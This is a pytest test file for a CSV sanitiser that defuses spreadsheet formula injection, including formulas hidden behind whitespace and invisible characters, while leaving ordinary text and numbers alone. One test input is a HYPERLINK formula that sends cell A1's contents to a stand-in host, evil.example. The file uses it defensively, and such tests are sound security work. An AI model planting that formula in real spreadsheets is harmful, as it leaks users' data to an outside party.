"""core.csv_cells: a cell a spreadsheet would run as a formula is shown as text,
even behind blanks and line breaks; ordinary text is left alone."""

from __future__ import annotations

import pytest

from core.csv_cells import neutralise, safe_row


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+33 1 23",
        "-2+3",
        "@SUM(A1)",
        ' =HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
        "\n=1+1",
        "\r\n=1+1",
        "\t=1",
        "\t",
        "\rtexte",
        "   \u00a0\u2028@cmd",
        "\u200b=1+1",  # an invisible character first
        "\x1c\x1d=1",
    ],
)
def test_a_formula_behind_blanks_is_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "Refonte du portail", "Projet = budget", "  Migration", "'=déjà", "e-mail"]
)
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


def test_numbers_stay_numbers():
    assert safe_row(["=1", 3, -2, " x"]) == ["'=1", 3, -2, " x"]
